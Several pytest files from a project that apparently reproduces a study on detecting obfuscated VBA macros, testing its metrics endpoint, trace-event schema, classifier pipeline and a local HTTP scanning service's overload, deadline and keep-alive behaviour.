    def test_window_section(self):
        clock = {"now": 0.0}
        window = SlidingWindow(60.0, 12, clock=lambda: clock["now"])
        registry = _populated_registry()
        window.tick(registry)
        registry.counter("cache.hits").inc(3)
        clock["now"] = 10.0
        text = render_prometheus(registry, window.view(registry))
        samples = _parse_samples(text)
        assert samples["repro_window_seconds"] == "10"
        # The whole stream fits inside the 60s window: 10 hits over 10s.
        assert float(
            samples['repro_window_rate_per_sec{name="cache.hits"}']
        ) == pytest.approx(1.0)
        assert 'repro_window_quantile{name="span.extract",quantile="0.95"}' in samples
        assert 'repro_window_quantile{name="span.extract",quantile="0.5"}' in samples

    def test_every_line_is_exposition_shaped(self):
        text = render_prometheus(_populated_registry())
        assert text.endswith("\n")
        for line in text.rstrip("\n").splitlines():
            assert line.startswith(("# TYPE ", "repro_")), line


class TestMetricsServer:
    def test_serves_metrics_and_healthz(self):
        registry = _populated_registry()
        with MetricsServer(registry, port=0) as server:
            base = f"http://127.0.0.1:{server.port}"
            with urllib.request.urlopen(f"{base}/metrics", timeout=5) as reply:
                assert reply.status == 200
                assert reply.headers["Content-Type"] == CONTENT_TYPE
                body = reply.read().decode("utf-8")
            assert "repro_cache_hits_total 7" in body

            with urllib.request.urlopen(f"{base}/healthz", timeout=5) as reply:
                health = json.loads(reply.read())
            assert health == {"status": "ok", "telemetry": True}

            with pytest.raises(urllib.error.HTTPError) as excinfo:
                urllib.request.urlopen(f"{base}/nope", timeout=5)
            assert excinfo.value.code == 404

    def test_scrapes_track_live_mutation(self):
        registry = _populated_registry()
        with MetricsServer(registry, port=0) as server:
            base = f"http://127.0.0.1:{server.port}"
            registry.counter("cache.hits").inc(100)
            with urllib.request.urlopen(f"{base}/metrics", timeout=5) as reply:
                body = reply.read().decode("utf-8")
            assert "repro_cache_hits_total 107" in body

    def test_start_is_idempotent_and_stop_releases(self):
        server = MetricsServer(_populated_registry(), port=0)
        port = server.start()
        assert server.start() == port
        server.stop()
        server.stop()  # second stop is a no-op
        # The port is free again: a new server can bind it.
        rebound = MetricsServer(_populated_registry(), port=port)
        assert rebound.start() == port
        rebound.stop()

    def test_scrape_includes_window_when_attached(self):
        registry = _populated_registry()
        window = SlidingWindow(60.0, 12)
        window.tick(registry)
        server = MetricsServer(registry, window=window)
        assert "repro_window_seconds" in server.scrape()
