"""The ``serve`` trace event family: schema, validators, and stats.

Satellite of the serving PR: ``serve.*`` events (admitted, shed,
rejected, deadline_expired, breaker, drain) must validate under the
library validator *and* the test suite's independent schema copy,
round-trip through the JSON-lines trace files, and aggregate into the
``repro stats`` report without polluting the span table.
"""

import pathlib

import pytest

from repro.obs import read_events, validate_event, write_events
from repro.obs.events import CONNECTION_PHASES, SERVE_EVENTS, serve_event
from repro.obs.report import render_events_report

from tests.obs import schema_validator

_CANNED_TRACE = pathlib.Path(__file__).parent / "data" / "canned_trace.jsonl"


def _valid_event(**overrides) -> dict:
    event = {
        "type": "serve",
        "name": "scan",
        "ts": 3.25,
        "event": "admitted",
        "detail": "doc-1",
        "pid": 4242,
    }
    event.update(overrides)
    return event


def _detail_for(kind: str) -> str:
    # "connection" details lead with a lifecycle phase; everything else
    # is free-form.
    return "opened 127.0.0.1" if kind == "connection" else "detail text"


class TestServeEventSchema:
    def test_builder_emits_valid_events(self):
        for kind in SERVE_EVENTS:
            event = serve_event("scan", kind, _detail_for(kind))
            assert validate_event(event) == event
            schema_validator.validate_event(event)

    def test_all_kinds_accepted_by_both_validators(self):
        for kind in SERVE_EVENTS:
            event = _valid_event(event=kind, detail=_detail_for(kind))
            validate_event(event)
            schema_validator.validate_event(event)

    def test_connection_phases_accepted_by_both_validators(self):
        for phase in CONNECTION_PHASES:
            event = _valid_event(
                name="http", event="connection", detail=f"{phase} 10.0.0.9"
            )
            validate_event(event)
            schema_validator.validate_event(event)

    def test_bad_connection_phase_rejected_by_both_validators(self):
        event = _valid_event(
            name="http", event="connection", detail="exploded 10.0.0.9"
        )
        with pytest.raises(ValueError, match="phase"):
            validate_event(event)
        with pytest.raises(AssertionError):
            schema_validator.validate_event(event)

    def test_connection_phase_lists_agree(self):
        assert tuple(CONNECTION_PHASES) == tuple(
            schema_validator.CONNECTION_PHASES
        )

    @pytest.mark.parametrize("field", ["type", "name", "ts", "event",
                                       "detail", "pid"])
    def test_missing_field_rejected(self, field):
        event = _valid_event()
        del event[field]
        with pytest.raises(ValueError, match=field):
            validate_event(event)
        with pytest.raises(AssertionError):
            schema_validator.validate_event(event)

    @pytest.mark.parametrize(
        "overrides",
        [
            {"event": "exploded"},   # unknown serve event kind
            {"detail": 7},           # wrong type
            {"pid": 1.5},            # float pid
            {"outcome": "ok"},       # span field on a serve event
            {"dur": 0.1},            # span field on a serve event
        ],
    )
    def test_bad_events_rejected_by_both_validators(self, overrides):
        event = _valid_event(**overrides)
        with pytest.raises(ValueError):
            validate_event(event)
        with pytest.raises(AssertionError):
            schema_validator.validate_event(event)

    def test_serve_kind_lists_agree(self):
        """The library's event-kind list and the test suite's independent
        copy must stay in sync (same pact as the field schemas)."""
        assert tuple(SERVE_EVENTS) == tuple(schema_validator.SERVE_EVENTS)

    def test_roundtrip_through_trace_file(self, tmp_path):
        events = [
            serve_event("scan", "admitted", "doc-1"),
            serve_event("scan", "shed", "queue_full"),
            serve_event("gateway", "breaker", "closed->open"),
            serve_event("gateway", "drain", "settled=True abandoned=0"),
            serve_event("http", "connection", "opened 127.0.0.1"),
            serve_event("http", "connection", "reused 127.0.0.1"),
            serve_event("http", "connection", "idle_timeout 127.0.0.1"),
        ]
        path = tmp_path / "serve.jsonl"
        assert write_events(path, events) == len(events)
        assert read_events(path) == events
        assert schema_validator.validate_lines(path.read_text()) == len(events)


class TestCannedTraceFixture:
    def test_canned_trace_validates_under_both_validators(self):
        text = _CANNED_TRACE.read_text()
        count = schema_validator.validate_lines(text)
        events = read_events(_CANNED_TRACE)
        assert len(events) == count
        assert sum(1 for e in events if e["type"] == "serve") == 6

    def test_report_summarizes_serve_events_out_of_band(self):
        events = read_events(_CANNED_TRACE)
        report = render_events_report(events)
        assert "TRACE — 6 spans" in report  # serve events are not spans
        assert (
            "serving: 6 events (admitted 1, breaker 1, connection 2, "
            "deadline_expired 1, shed 1)" in report
        )
