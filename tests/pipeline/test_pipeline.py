"""Tests for the end-to-end pipeline layer."""

import numpy as np
import pytest

from repro.corpus.builder import CorpusBuilder, paper_profile
from repro.pipeline.classifiers import (
    CLASSIFIER_ORDER,
    make_classifier,
    preprocessor_for,
)
from repro.pipeline.dataset import DatasetBuilder, MacroDataset, MacroSample
from repro.pipeline.experiment import ExperimentRunner
from repro.pipeline.reporting import (
    render_fig5,
    render_fig6,
    render_fig7,
    render_table2,
    render_table3,
    render_table5,
)


@pytest.fixture(scope="module")
def small_corpus():
    return CorpusBuilder(paper_profile().scaled(0.04), seed=5).build()


@pytest.fixture(scope="module")
def dataset(small_corpus):
    return DatasetBuilder().build(small_corpus.documents, small_corpus.truth)


class TestDatasetBuilder:
    def test_dedup_keeps_unique_sources(self, dataset):
        sources = dataset.sources
        assert len(sources) == len(set(sources))

    def test_duplicates_counted(self, dataset):
        # Malicious campaign macros are reused across files.
        assert dataset.dropped_duplicates > 0
        reused = [s for s in dataset.samples if s.occurrences > 1]
        assert reused

    def test_minimum_length_filter(self, dataset):
        for sample in dataset.samples:
            assert len(sample.source.encode("utf-8")) >= 150

    def test_short_filter_configurable(self, small_corpus):
        permissive = DatasetBuilder(min_macro_bytes=0).build(
            small_corpus.documents, small_corpus.truth
        )
        strict = DatasetBuilder(min_macro_bytes=150).build(
            small_corpus.documents, small_corpus.truth
        )
        assert len(permissive.samples) >= len(strict.samples)

    def test_invalid_min_bytes(self):
        with pytest.raises(ValueError):
            DatasetBuilder(min_macro_bytes=-1)

    def test_labels_match_truth(self, small_corpus, dataset):
        for sample in dataset.samples:
            assert sample.obfuscated == small_corpus.truth[sample.source]

    def test_labels_vector(self, dataset):
        labels = dataset.labels
        assert labels.shape == (len(dataset.samples),)
        assert set(np.unique(labels)) <= {0, 1}

    def test_table3_shape(self, dataset):
        summary = dataset.table3_summary()
        assert summary["malicious"]["obfuscated_pct"] > 90.0
        assert summary["benign"]["obfuscated_pct"] < 10.0
        assert (
            summary["total"]["macros"]
            == summary["benign"]["macros"] + summary["malicious"]["macros"]
        )

    def test_file_counts(self, small_corpus, dataset):
        assert dataset.files_benign == len(small_corpus.benign_documents)
        assert dataset.files_malicious == len(small_corpus.malicious_documents)


class TestClassifierFactories:
    @pytest.mark.parametrize("name", CLASSIFIER_ORDER)
    def test_factory_builds_unfitted(self, name):
        model = make_classifier(name)
        assert not hasattr(model, "classes_")

    def test_svm_uses_paper_parameters(self):
        model = make_classifier("SVM")
        assert model.C == 150.0
        assert model.gamma == 0.03

    def test_unknown_classifier(self):
        with pytest.raises(ValueError):
            make_classifier("XGB")
        with pytest.raises(ValueError):
            preprocessor_for("XGB")

    @pytest.mark.parametrize("name", CLASSIFIER_ORDER)
    def test_preprocessor_contract(self, name):
        factory = preprocessor_for(name)
        if factory is None:
            return
        preprocessor = factory()
        X = np.random.default_rng(0).random((10, 4))
        transformed = preprocessor.fit_transform(X)
        assert transformed.shape == X.shape


class TestExperimentRunner:
    @pytest.fixture(scope="class")
    def result(self, dataset):
        runner = ExperimentRunner(
            n_splits=4, classifiers=("RF", "BNB"), feature_sets=("V", "J")
        )
        return runner.run(dataset)

    def test_all_cells_present(self, result):
        assert set(result.cells) == {
            ("V", "RF"), ("V", "BNB"), ("J", "RF"), ("J", "BNB"),
        }

    def test_metrics_in_range(self, result):
        for cell in result.cells.values():
            for value in (cell.accuracy, cell.precision, cell.recall, cell.f2):
                assert 0.0 <= value <= 1.0
            assert 0.0 <= cell.auc <= 1.0

    def test_rf_learns_something(self, result):
        assert result.cell("V", "RF").f2 > 0.5
        assert result.cell("V", "RF").auc > 0.8

    def test_best_by_f2(self, result):
        best = result.best_by_f2("V")
        assert best.f2 == max(
            cell.f2 for (fs, _), cell in result.cells.items() if fs == "V"
        )

    def test_f2_improvement_is_difference(self, result):
        expected = result.best_by_f2("V").f2 - result.best_by_f2("J").f2
        assert result.f2_improvement == expected

    def test_roc_points_valid(self, result):
        fpr, tpr = result.cell("V", "RF").roc_points()
        assert fpr[0] == 0.0 and tpr[0] == 0.0
        assert fpr[-1] == 1.0 and tpr[-1] == 1.0

    def test_single_class_dataset_rejected(self):
        bad = MacroDataset(
            samples=[
                MacroSample("Sub A()\nEnd Sub\n" * (i + 1), False, False)
                for i in range(12)
            ]
        )
        with pytest.raises(ValueError):
            ExperimentRunner(n_splits=2).run(bad)


class TestReporting:
    @pytest.fixture(scope="class")
    def result(self, dataset):
        runner = ExperimentRunner(n_splits=4)
        return runner.run(dataset)

    def test_table2(self, small_corpus):
        text = render_table2(small_corpus.summary())
        assert "TABLE II" in text
        assert "benign" in text and "malicious" in text

    def test_table3(self, dataset):
        text = render_table3(dataset)
        assert "TABLE III" in text
        assert "%" in text

    def test_table5_contains_all_rows(self, result):
        text = render_table5(result)
        for name in ("SVM", "RF", "MLP", "LDA", "BNB"):
            assert text.count(name) == 2  # one V row, one J row

    def test_fig6_reports_improvement(self, result):
        text = render_fig6(result)
        assert "F2 improvement" in text

    def test_fig7_draws_curves(self, result):
        text = render_fig7(result)
        assert "AUC" in text
        assert "#" in text  # solid curve plotted

    def test_fig5_histogram(self):
        import random

        rng = random.Random(0)
        normal = [rng.randint(150, 16000) for _ in range(100)]
        clustered = [rng.choice((1500, 3000, 15000)) + rng.randint(-50, 50) for _ in range(100)]
        text = render_fig5(normal, clustered)
        assert "FIGURE 5" in text
        assert "median" in text
