"""End-to-end tests of the serving application over real sockets.

Each scenario boots a real :class:`~repro.serve.app.ServeApp` (warm
worker pool included) inside ``asyncio.run`` and drives it with plain
``http.client`` requests from executor threads — the same way an
external client would see it.  The serving promise under test: every
request gets a *typed* terminal response, overload is refused with
429/503 + Retry-After, deadlines produce 408 without leaking capacity,
the breaker flips ``/readyz``, and drain is graceful.
"""

import asyncio
import http.client
import io
import json
import random
import socket
import zipfile

import pytest

from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.engine import AnalysisEngine
from repro.obs import MetricsRegistry
from repro.resilience import Fault, FaultPlan
from repro.serve import ServeApp, ServeConfig


@pytest.fixture(scope="module")
def docm():
    rng = random.Random(7)
    return build_document_bytes(
        [generate_benign_module(rng, target_length=300)], "docm"
    )


@pytest.fixture(scope="module")
def archive(docm):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("a.docm", docm)
        zf.writestr("b.docm", docm)
    return buffer.getvalue()


class Client:
    """Blocking http.client calls, awaited from the app's event loop."""

    def __init__(self, port: int) -> None:
        self.port = port

    def _request(self, method, path, body=None):
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
        headers = {"Content-Length": str(len(body))} if body is not None else {}
        conn.request(method, path, body=body, headers=headers)
        response = conn.getresponse()
        data = response.read()
        status, headers = response.status, dict(response.getheaders())
        conn.close()
        return status, headers, data

    async def request(self, method, path, body=None):
        loop = asyncio.get_running_loop()
        return await loop.run_in_executor(
            None, self._request, method, path, body
        )


def run_scenario(scenario, *, config=None, chaos=None, timeout_s=180.0):
    """Boot an app, run the scenario coroutine, always drain."""
    registry = MetricsRegistry(trace=True)
    engine = AnalysisEngine.for_lint(metrics=registry, chaos=chaos)
    app = ServeApp(engine, config or ServeConfig(jobs=2), metrics=registry)

    async def main():
        port = await app.start()
        client = Client(port)
        try:
            return await scenario(app, client, registry)
        finally:
            await app.drain(budget_s=30.0)

    return asyncio.run(asyncio.wait_for(main(), timeout_s))


class TestRequestLifecycle:
    def test_endpoints_probes_and_drain(self, docm, archive):
        async def scenario(app, client, registry):
            status, _, body = await client.request("GET", "/healthz")
            assert status == 200

            status, _, body = await client.request("GET", "/readyz")
            ready = json.loads(body)
            assert status == 200 and ready["ready"] is True
            assert ready["breaker"] == "closed" and ready["warm"] is True

            # The three endpoints answer NDJSON with endpoint shapes.
            status, headers, body = await client.request(
                "POST", "/lint?id=doc-lint", docm
            )
            assert status == 200
            assert headers["Content-Type"] == "application/x-ndjson"
            record = json.loads(body)
            assert record["path"] == "doc-lint" and record["ok"] is True
            assert "verdict" not in record["macros"][0]
            assert "findings" in record["macros"][0]

            status, _, body = await client.request(
                "POST", "/extract?id=doc-x", docm
            )
            record = json.loads(body)
            assert status == 200
            assert "findings" not in record["macros"][0]

            status, _, body = await client.request(
                "POST", "/scan?id=doc-scan", docm
            )
            assert status == 200  # lint engine: scan view, no classifier

            # An archive streams one NDJSON line per member (chunked).
            status, headers, body = await client.request(
                "POST", "/scan?id=arch", archive
            )
            assert status == 200
            assert headers.get("Transfer-Encoding") == "chunked"
            lines = [json.loads(line) for line in body.splitlines()]
            assert sorted(line["path"] for line in lines) == [
                "arch!a.docm",
                "arch!b.docm",
            ]

            # Typed protocol errors.
            status, _, body = await client.request("POST", "/scan", b"")
            assert (status, json.loads(body)["error"]["code"]) == (
                400, "empty_body",
            )
            status, _, body = await client.request("GET", "/nope")
            assert status == 404
            status, _, body = await client.request("GET", "/scan")
            assert status == 405
            status, _, body = await client.request(
                "POST", "/scan?deadline_s=-2", docm
            )
            assert (status, json.loads(body)["error"]["code"]) == (
                400, "bad_deadline",
            )

            # /metrics is served in-process from the live registry.
            status, headers, body = await client.request("GET", "/metrics")
            assert status == 200
            text = body.decode()
            assert "repro_serve_admitted_total" in text
            assert "repro_serve_latency_scan_bucket" in text
            assert "repro_serve_breaker_state 0" in text

            # Graceful drain: the report says settled, requests refused.
            report = await app.drain(budget_s=30.0)
            assert report.settled and report.abandoned == 0
            return registry

        registry = run_scenario(scenario)
        counters = registry.to_dict()["counters"]
        assert counters["serve.requests.scan"] >= 3
        assert counters["serve.admitted"] >= 4
        # Every admitted serve trace event is a known kind.
        kinds = {
            e["event"] for e in registry.events if e["type"] == "serve"
        }
        assert "admitted" in kinds and "drain" in kinds

    def test_malformed_and_lengthless_requests_get_typed_errors(self, docm):
        async def scenario(app, client, registry):
            def raw(payload: bytes) -> bytes:
                sock = socket.create_connection(
                    ("127.0.0.1", client.port), timeout=30
                )
                sock.sendall(payload)
                chunks = b""
                while True:
                    chunk = sock.recv(65536)
                    if not chunk:
                        break
                    chunks += chunk
                sock.close()
                return chunks

            loop = asyncio.get_running_loop()
            reply = await loop.run_in_executor(
                None, raw, b"POST /scan HTTP/1.1\r\nHost: x\r\n\r\n"
            )
            assert b"411" in reply.split(b"\r\n", 1)[0]
            assert b"length_required" in reply

            reply = await loop.run_in_executor(
                None, raw, b"garbage\r\n\r\n"
            )
            assert b"400" in reply.split(b"\r\n", 1)[0]
            return True

        assert run_scenario(scenario)


class TestOverloadPolicy:
    def test_rate_limit_yields_429_with_retry_after(self, docm):
        config = ServeConfig(jobs=2, rate_per_s=1.0, burst=2.0)

        async def scenario(app, client, registry):
            statuses = []
            retry_after = None
            for index in range(4):
                status, headers, body = await client.request(
                    "POST", f"/lint?id=rl-{index}", docm
                )
                statuses.append(status)
                if status == 429:
                    payload = json.loads(body)["error"]
                    assert payload["code"] == "rate_limited"
                    retry_after = headers.get("Retry-After")
            assert statuses.count(429) >= 1
            assert retry_after is not None and int(retry_after) >= 1
            return registry

        registry = run_scenario(scenario, config=config)
        assert registry.to_dict()["counters"]["serve.rate_limited"] >= 1

    def test_queue_shed_at_the_shed_line(self, docm):
        # Shed line of 1: while one hanging request occupies the queue,
        # the next is refused with a typed 503 — and once the hang
        # resolves, service continues.
        config = ServeConfig(jobs=2, max_queue=1, default_deadline_s=30.0)
        chaos = FaultPlan(faults=(Fault("hang", "hang"),), hang_s=2.0)

        async def scenario(app, client, registry):
            slow = asyncio.ensure_future(
                client.request("POST", "/lint?id=hang-1", docm)
            )
            for _ in range(100):  # wait until the slow one is admitted
                if app.gateway.queue_depth >= 1:
                    break
                await asyncio.sleep(0.05)
            status, headers, body = await client.request(
                "POST", "/lint?id=fast-1", docm
            )
            assert status == 503
            assert json.loads(body)["error"]["code"] == "queue_full"
            assert "Retry-After" in headers

            slow_status, _, slow_body = await slow
            assert slow_status == 200  # the hang finished inside deadline
            status, _, _ = await client.request(
                "POST", "/lint?id=fast-2", docm
            )
            assert status == 200  # capacity came back
            return registry

        registry = run_scenario(scenario, config=config, chaos=chaos)
        counters = registry.to_dict()["counters"]
        assert counters["serve.shed"] >= 1
        events = [e for e in registry.events if e["type"] == "serve"]
        assert any(e["event"] == "shed" for e in events)

    def test_deadline_expiry_is_408_and_releases_capacity(self, docm):
        config = ServeConfig(jobs=2, per_client_window=4)
        chaos = FaultPlan(faults=(Fault("hang", "hang"),), hang_s=30.0)

        async def scenario(app, client, registry):
            for index in range(3):
                status, _, body = await client.request(
                    "POST", f"/lint?id=hang-{index}&deadline_s=0.4", docm
                )
                assert status == 408
                assert json.loads(body)["error"]["code"] == "deadline_expired"
            # All three 408s released their window slots: a normal
            # request on the same client is admitted and served.
            status, _, _ = await client.request(
                "POST", "/lint?id=ok-1", docm
            )
            assert status == 200
            return registry

        registry = run_scenario(scenario, config=config, chaos=chaos)
        counters = registry.to_dict()["counters"]
        assert counters["serve.deadline_expired"] >= 3
        events = [e for e in registry.events if e["type"] == "serve"]
        assert any(e["event"] == "deadline_expired" for e in events)


class TestBreakerIntegration:
    def test_open_breaker_flips_readyz_and_refuses(self, docm):
        async def scenario(app, client, registry):
            for _ in range(app.breaker.failure_threshold):
                app.breaker.record_failure()
            assert app.breaker.state == "open"

            status, _, body = await client.request("GET", "/readyz")
            payload = json.loads(body)
            assert status == 503
            assert payload["ready"] is False and payload["breaker"] == "open"

            status, headers, body = await client.request(
                "POST", "/scan?id=refused", docm
            )
            assert status == 503
            assert json.loads(body)["error"]["code"] == "breaker_open"
            assert "Retry-After" in headers
            return registry

        registry = run_scenario(scenario)
        snapshot = registry.to_dict()
        assert snapshot["counters"]["serve.breaker.open"] == 1
        assert snapshot["gauges"]["serve.breaker_state"] == 2


class TestDrainDiscipline:
    def test_drained_app_refuses_then_socket_closes(self, docm):
        async def scenario(app, client, registry):
            status, _, _ = await client.request("POST", "/lint?id=a", docm)
            assert status == 200
            report = await app.drain(budget_s=30.0)
            assert report.settled
            with pytest.raises(OSError):
                await client.request("POST", "/lint?id=b", docm)
            # Drain is idempotent.
            assert await app.drain() is None
            return True

        assert run_scenario(scenario)
