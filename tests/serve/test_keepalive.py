"""Keep-alive protocol edges and member-level archive admission.

The serving PR's connection-lifecycle contract, tested over real
sockets:

* an HTTP/1.1 connection is reused across requests, and the reuse is
  observable (``serve.connections.*`` instruments, ``connection`` trace
  events with opened/reused/closed/idle_timeout phases);
* a quiet kept-alive connection is closed at the idle budget without a
  response — there is no request to answer;
* the per-connection request cap forces a fresh connection with an
  honest ``Connection: close``;
* a 429 on a reused connection refuses *that request only* — the next
  request on the same socket is served;
* during drain, an in-flight response finishes with ``Connection:
  close`` and a pipelined follow-up is never read — clean EOF, no RST;
* archive members admit through the per-client window individually, so
  a many-member archive holds at most ``per_client_window`` queue slots
  and concurrent small clients keep being served.
"""

import asyncio
import http.client
import io
import json
import random
import socket
import time
import zipfile

from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.resilience import Fault, FaultPlan
from repro.serve import ServeConfig

from tests.serve.test_app import run_scenario

import pytest


@pytest.fixture(scope="module")
def docm():
    rng = random.Random(11)
    return build_document_bytes(
        [generate_benign_module(rng, target_length=300)], "docm"
    )


def make_archive(docm: bytes, names) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name in names:
            zf.writestr(name, docm)
    return buffer.getvalue()


class PersistentClient:
    """One ``http.client`` connection, deliberately reused across requests."""

    def __init__(self, port: int, source: str | None = None) -> None:
        self.conn = http.client.HTTPConnection(
            "127.0.0.1",
            port,
            timeout=60,
            source_address=(source, 0) if source else None,
        )

    def _request(self, method, path, body=None, close=False):
        headers = {"Content-Length": str(len(body))} if body is not None else {}
        if close:
            headers["Connection"] = "close"
        self.conn.request(method, path, body=body, headers=headers)
        response = self.conn.getresponse()
        data = response.read()
        return response.status, dict(response.getheaders()), data

    async def request(self, method, path, body=None, close=False):
        loop = asyncio.get_running_loop()
        return await loop.run_in_executor(
            None, self._request, method, path, body, close
        )

    def close(self) -> None:
        self.conn.close()


def read_response(sock: socket.socket):
    """Parse one Content-Length-framed response off a raw socket."""
    buffered = b""
    while b"\r\n\r\n" not in buffered:
        chunk = sock.recv(65536)
        if not chunk:
            return None
        buffered += chunk
    head, _, rest = buffered.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split(" ", 2)[1])
    headers = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    length = int(headers.get("content-length", "0"))
    while len(rest) < length:
        chunk = sock.recv(65536)
        if not chunk:
            break
        rest += chunk
    return status, headers, rest[:length]


def raw_post(path: str, body: bytes, extra: str = "") -> bytes:
    return (
        f"POST {path} HTTP/1.1\r\nHost: x\r\n"
        f"Content-Length: {len(body)}\r\n{extra}\r\n"
    ).encode("latin-1") + body


def connection_phases(registry) -> list[str]:
    return [
        event["detail"].split(" ", 1)[0]
        for event in registry.events
        if event["type"] == "serve" and event["event"] == "connection"
    ]


class TestKeepAlive:
    def test_connection_reused_across_requests(self, docm):
        async def scenario(app, client, registry):
            persistent = PersistentClient(client.port)
            try:
                for index in range(3):
                    status, headers, _ = await persistent.request(
                        "POST", f"/lint?id=ka-{index}", docm
                    )
                    assert status == 200
                    assert headers["Connection"] == "keep-alive"
                # An explicit Connection: close is honored.
                status, headers, _ = await persistent.request(
                    "POST", "/lint?id=ka-last", docm, close=True
                )
                assert status == 200
                assert headers["Connection"] == "close"
            finally:
                persistent.close()
            # Give the server's connection handler a beat to settle.
            await asyncio.sleep(0.1)
            return registry

        registry = run_scenario(scenario)
        counters = registry.to_dict()["counters"]
        assert counters["serve.connections.reused"] == 3
        assert registry.to_dict()["gauges"]["serve.connections.active"] == 0
        phases = connection_phases(registry)
        assert "opened" in phases and "reused" in phases
        assert "closed" in phases

    def test_idle_connection_times_out_quietly(self, docm):
        config = ServeConfig(jobs=2, keepalive_idle_s=0.2)

        async def scenario(app, client, registry):
            def drive() -> bytes:
                sock = socket.create_connection(
                    ("127.0.0.1", client.port), timeout=30
                )
                try:
                    sock.sendall(raw_post("/lint?id=idle-1", docm))
                    status, headers, _ = read_response(sock)
                    assert status == 200
                    assert headers["connection"] == "keep-alive"
                    time.sleep(0.8)  # well past keepalive_idle_s
                    return sock.recv(65536)
                finally:
                    sock.close()

            loop = asyncio.get_running_loop()
            trailing = await loop.run_in_executor(None, drive)
            assert trailing == b""  # clean EOF, no 408 and no RST
            return registry

        registry = run_scenario(scenario, config=config)
        assert "idle_timeout" in connection_phases(registry)

    def test_max_requests_per_connection_cap(self, docm):
        config = ServeConfig(jobs=2, max_requests_per_connection=2)

        async def scenario(app, client, registry):
            persistent = PersistentClient(client.port)
            try:
                connections = []
                for index in range(4):
                    status, headers, _ = await persistent.request(
                        "POST", f"/lint?id=cap-{index}", docm
                    )
                    assert status == 200
                    connections.append(headers["Connection"])
                # http.client transparently reconnects after each forced
                # close, so the cap shows as a keep-alive/close cadence.
                assert connections == [
                    "keep-alive", "close", "keep-alive", "close",
                ]
            finally:
                persistent.close()
            return registry

        registry = run_scenario(scenario, config=config)
        # Two requests per connection: exactly one reuse per pair.
        assert registry.to_dict()["counters"]["serve.connections.reused"] == 2

    def test_429_on_reused_connection_does_not_poison_it(self, docm):
        config = ServeConfig(jobs=2, per_client_window=1)
        chaos = FaultPlan(faults=(Fault("hang", "hang"),), hang_s=1.5)

        async def scenario(app, client, registry):
            slow = asyncio.ensure_future(
                client.request("POST", "/lint?id=hang-1", docm)
            )
            for _ in range(100):
                if app.gateway.queue_depth >= 1:
                    break
                await asyncio.sleep(0.05)
            persistent = PersistentClient(client.port)
            try:
                # The hanging request holds the whole client window, so
                # this one is refused — but the refusal is typed and the
                # connection stays open.
                status, headers, body = await persistent.request(
                    "POST", "/lint?id=fast-1", docm
                )
                assert status == 429
                assert json.loads(body)["error"]["code"] == "client_saturated"
                assert headers["Connection"] == "keep-alive"

                slow_status, _, _ = await slow
                assert slow_status == 200

                # Same socket, next request: served.
                status, _, _ = await persistent.request(
                    "POST", "/lint?id=fast-2", docm
                )
                assert status == 200
            finally:
                persistent.close()
            return registry

        registry = run_scenario(scenario, config=config, chaos=chaos)
        assert registry.to_dict()["counters"]["serve.connections.reused"] >= 1

    def test_pipelined_request_refused_cleanly_mid_drain(self, docm):
        chaos = FaultPlan(faults=(Fault("hang", "hang"),), hang_s=1.0)

        async def scenario(app, client, registry):
            sock = socket.create_connection(
                ("127.0.0.1", client.port), timeout=30
            )
            try:
                # Two pipelined requests: the first hangs in the pool,
                # the second sits in the kernel buffer behind it.
                sock.sendall(
                    raw_post("/lint?id=hang-1", docm)
                    + raw_post("/lint?id=behind-1", docm)
                )
                for _ in range(100):
                    if app.gateway.queue_depth >= 1:
                        break
                    await asyncio.sleep(0.05)
                drain = asyncio.ensure_future(app.drain(budget_s=30.0))

                loop = asyncio.get_running_loop()
                first = await loop.run_in_executor(None, read_response, sock)
                assert first is not None
                status, headers, _ = first
                assert status == 200  # in-flight work settled, not dropped
                assert headers["connection"] == "close"
                # The pipelined follow-up is never read: clean EOF.
                trailing = await loop.run_in_executor(None, sock.recv, 65536)
                assert trailing == b""

                report = await drain
                assert report.settled
            finally:
                sock.close()
            return True

        assert run_scenario(scenario, chaos=chaos)


class TestMemberAdmission:
    def test_archive_peak_occupancy_stays_within_window(self, docm):
        config = ServeConfig(jobs=2, per_client_window=4, max_queue=32)
        archive = make_archive(
            docm, [f"m{index:03d}.docm" for index in range(100)]
        )

        async def scenario(app, client, registry):
            status, headers, body = await client.request(
                "POST", "/lint?id=big", archive
            )
            assert status == 200
            assert headers.get("Transfer-Encoding") == "chunked"
            lines = [json.loads(line) for line in body.splitlines()]
            assert len(lines) == 100
            assert all(line["error"] is None for line in lines)
            return registry

        registry = run_scenario(scenario, config=config)
        snapshot = registry.to_dict()
        # serve.queue_depth records the *peak* unresolved count: 100
        # members never held more than the client window's 4 slots.
        assert snapshot["gauges"]["serve.queue_depth"] <= 4
        assert snapshot["counters"]["serve.member_admitted"] == 100

    def test_archive_does_not_starve_concurrent_small_requests(self, docm):
        # Member ids contain "hang", so every member occupies a worker
        # for hang_s — the archive is in flight long enough for small
        # requests from another client to arrive mid-stream.  Without
        # member-level admission, 24 members against a shed line of 6
        # would 503 every bystander.
        config = ServeConfig(jobs=2, per_client_window=4, max_queue=6)
        chaos = FaultPlan(faults=(Fault("hang", "hang"),), hang_s=0.25)
        archive = make_archive(
            docm, [f"hang-{index:02d}.docm" for index in range(24)]
        )

        async def scenario(app, client, registry):
            big = asyncio.ensure_future(
                client.request("POST", "/lint?id=big", archive)
            )
            for _ in range(100):
                if app.gateway.queue_depth >= 1:
                    break
                await asyncio.sleep(0.05)

            bystander = PersistentClient(client.port, source="127.0.0.2")
            try:
                for index in range(3):
                    status, _, body = await bystander.request(
                        "POST", f"/lint?id=small-{index}", docm
                    )
                    assert status == 200, body
                    await asyncio.sleep(0.1)
            finally:
                bystander.close()

            status, _, body = await big
            assert status == 200
            lines = [json.loads(line) for line in body.splitlines()]
            assert len(lines) == 24
            return registry

        registry = run_scenario(scenario, config=config, chaos=chaos)
        snapshot = registry.to_dict()
        assert snapshot["counters"].get("serve.shed", 0) == 0
        # Archive members (≤ 4) plus the bystander never reached the
        # shed line.
        assert snapshot["gauges"]["serve.queue_depth"] < 6
